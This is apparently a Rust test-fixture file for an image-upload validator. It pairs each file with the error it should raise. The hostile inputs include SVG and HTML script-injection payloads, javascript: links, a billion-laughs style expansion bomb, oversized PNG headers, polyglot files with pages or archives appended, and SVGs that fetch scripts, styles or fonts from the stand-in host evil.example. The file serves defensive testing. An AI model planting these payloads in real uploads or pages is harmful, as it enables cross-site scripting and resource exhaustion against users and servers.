//! Hostile files, and files that only look so. Everything that takes a picture is tried with all of them.

use super::pictures::{chunk_of, jpeg, picture, png, png_header, svg, webp};
use image::ImageFormat;
use tenantry::fault::Problem;

const NOT_A_PICTURE: Problem = Problem::FileNotAPicture;
const TOO_MANY_PIXELS: Problem = Problem::PictureTooLarge { most_pixels: 4096 };
const TOO_MANY_BYTES: Problem = Problem::FileTooLarge { most_bytes: 2 * 1024 * 1024 };

/// What is refused, and why.
pub fn refused() -> Vec<(&'static str, Vec<u8>, Problem)> {
    [no_pictures(), bombs(), truncated(), polyglots(), running(), reaching_out()].concat()
}

fn no_pictures() -> Vec<(&'static str, Vec<u8>, Problem)> {
    vec![
        ("empty", Vec::new(), Problem::Required),
        ("text", b"This is my logo.".to_vec(), NOT_A_PICTURE),
        ("html", b"<!doctype html><html><script>alert(1)</script></html>".to_vec(), NOT_A_PICTURE),
        ("gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;".to_vec(), NOT_A_PICTURE),
        ("gif that is a script", b"GIF89a=alert(1);".to_vec(), NOT_A_PICTURE),
        ("pdf", b"%PDF-1.7\n%%EOF".to_vec(), NOT_A_PICTURE),
        ("bmp", b"BM\x3a\x00\x00\x00\x00\x00\x00\x00".to_vec(), NOT_A_PICTURE),
        ("svg in html", [b"<html xmlns=\"http://www.w3.org/1999/xhtml\">".to_vec(), svg(""), b"</html>".to_vec()].concat(), NOT_A_PICTURE),
        ("svg with entities", [b"<!DOCTYPE svg [<!ENTITY a \"ha\">]>".to_vec(), svg("<text>&a;</text>")].concat(), NOT_A_PICTURE),
    ]
}

/// Ten of ten of ten, nine times.
fn laughs() -> String {
    let level = |n: u32| format!("<g id=\"g{}\">{}</g>", n + 1, format!("<use href=\"#g{n}\"/>").repeat(10));
    format!("<rect id=\"g0\" width=\"9\" height=\"9\"/>{}<use href=\"#g9\"/>", (0..9).map(level).collect::<String>())
}

fn bombs() -> Vec<(&'static str, Vec<u8>, Problem)> {
    vec![
        ("too many bytes", [png(), vec![0; 2 * 1024 * 1024]].concat(), TOO_MANY_BYTES),
        ("png that promises 65,000 by 65,000", png_header(65_000, 65_000), TOO_MANY_PIXELS),
        ("png that promises the largest size there is", png_header(0x7fff_ffff, 0x7fff_ffff), TOO_MANY_PIXELS),
        ("png one pixel too wide", picture(ImageFormat::Png, 4097, 2), TOO_MANY_PIXELS),
        ("jpeg one pixel too high", picture(ImageFormat::Jpeg, 2, 4097), TOO_MANY_PIXELS),
        ("svg of more parts than anybody draws", svg(&"<g/>".repeat(200_001)), Problem::DrawingTooRich),
        ("svg of a few lines that stand for a billion", svg(&laughs()), Problem::DrawingTooRich),
    ]
}

fn truncated() -> Vec<(&'static str, Vec<u8>, Problem)> {
    let start = |file: &[u8], most: usize| file[..most.min(file.len())].to_vec();
    let (png, jpeg, webp) = (png(), jpeg(), webp());
    vec![
        ("png that promises a size and holds nothing", png_header(64, 64), NOT_A_PICTURE),
        ("png of its first bytes alone", b"\x89PNG\r\n\x1a\n".to_vec(), NOT_A_PICTURE),
        ("png cut in its header", start(&png, 20), NOT_A_PICTURE),
        ("png cut in half", start(&png, png.len() / 2), NOT_A_PICTURE),
        ("png without its end", start(&png, png.len() - 12), NOT_A_PICTURE),
        ("jpeg cut in its header", start(&jpeg, 30), NOT_A_PICTURE),
        ("jpeg cut in half", start(&jpeg, jpeg.len() / 2), NOT_A_PICTURE),
        ("jpeg without its end", start(&jpeg, jpeg.len() - 2), NOT_A_PICTURE),
        ("webp cut in half", start(&webp, webp.len() / 2), NOT_A_PICTURE),
        ("svg cut in half", start(&svg(""), 80), NOT_A_PICTURE),
    ]
}

/// Two files in one.
fn polyglots() -> Vec<(&'static str, Vec<u8>, Problem)> {
    let behind = |file: Vec<u8>, other: &[u8]| [file.as_slice(), other].concat();
    let (page, archive) = (b"<script>alert(1)</script>", b"PK\x03\x04\x14\x00\x00\x00\x00\x00PK\x05\x06\x00\x00");
    vec![
        ("png with a page behind it", behind(png(), page), Problem::FileGoesOn),
        ("png with an archive behind it", behind(png(), archive), Problem::FileGoesOn),
        ("png with another behind it", behind(png(), &png()), Problem::FileGoesOn),
        ("jpeg with a page behind it", behind(jpeg(), page), Problem::FileGoesOn),
        ("jpeg with an archive behind it", behind(jpeg(), archive), Problem::FileGoesOn),
        ("jpeg with a page behind a second one", behind([jpeg(), jpeg()].concat(), page), Problem::FileGoesOn),
        ("webp with a page behind it", behind(webp(), page), Problem::FileGoesOn),
        ("webp with a pdf behind it", behind(webp(), b"%PDF-1.7\n%%EOF"), Problem::FileGoesOn),
        ("html behind an svg", behind(svg(""), page), NOT_A_PICTURE),
    ]
}

fn running() -> Vec<(&'static str, Vec<u8>, Problem)> {
    let html =
        "<foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></body></foreignObject>";
    let files = [
        ("svg with a script", "<script>alert(1)</script>"),
        ("svg with a script from elsewhere", "<script xlink:href=\"//evil.example/x.js\"/>"),
        ("svg with a script of another name", "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>"),
        ("svg that acts when loaded", "<g onload=\"alert(1)\"><path d=\"M0 0\" onclick=\"alert(2)\"/></g>"),
        ("svg with html inside", html),
        ("svg with a link that is a script", "<a xlink:href=\"javascript:alert(1)\"><text>x</text></a>"),
        ("svg with a hidden link that is a script", "<a href=\"java&#x0a;script:alert(1)\"><text>x</text></a>"),
        ("svg with a page as its picture", "<image href=\"data:text/html;base64,PHNjcmlwdD4=\"/>"),
        ("svg that animates a link", "<animate attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/>"),
        ("svg that sets a handler", "<set attributeName=\"onclick\" to=\"alert(1)\"/>"),
    ];
    files.map(|(name, body)| (name, svg(body), Problem::DrawingRuns)).into()
}

fn reaching_out() -> Vec<(&'static str, Vec<u8>, Problem)> {
    let files = [
        ("svg with a picture elsewhere", "<image href=\"https://evil.example/a.png\"/>"),
        ("svg with a picture beside it", "<image href=\"/brand/other\"/>"),
        ("svg with an old link elsewhere", "<use xlink:href=\"https://evil.example/a.svg#b\"/>"),
        ("svg with a style elsewhere", "<style>@import '//evil.example/a.css'; rect{fill:red}</style>"),
        ("svg with a style in numbers", "<style>@\\69mport '//evil.example/a.css'</style>"),
        ("svg with a fill elsewhere", "<path d=\"M0 0\" fill=\"url(https://evil.example/a#b)\"/>"),
        ("svg with a font elsewhere", "<style>@font-face{font-family:x;src:url(//evil.example/f)}</style>"),
        ("svg with another base", "<g xml:base=\"https://evil.example/\"><use href=\"#a\"/></g>"),
    ];
    files.map(|(name, body)| (name, svg(body), Problem::DrawingReachesOut)).into()
}

/// What is taken, without what isn't the picture: words that must be gone.
pub fn harmless() -> Vec<(&'static str, Vec<u8>, &'static [&'static str])> {
    let editor = "<title>Our logo</title><!-- made by hand --><metadata><r:RDF xmlns:r=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">\
        <r:li r:resource=\"http://purl.org/dc/dcmitype/StillImage\"/></r:RDF></metadata>\
        <i:grid xmlns:i=\"http://www.inkscape.org/namespaces/inkscape\" i:export=\"/home/me\"/>";
    vec![
        ("png with a page as its comment", commented_png(), &["script", "alert", "text"]),
        ("png filled up with nothing", [png(), vec![0; 512]].concat(), &[]),
        ("jpeg of a telephone, with a second one behind it", [jpeg(), jpeg()].concat(), &["jfif\0jfif"]),
        ("svg of an editor", svg(editor), &["made by hand", "purl", "inkscape", "/home"]),
    ]
}

/// A PNG with a `tEXt` chunk between its header and its picture.
fn commented_png() -> Vec<u8> {
    let file = png();
    let (header, rest) = file.split_at(33);
    [header, &chunk_of(b"tEXtComment\0<script>alert(1)</script>"), rest].concat()
}
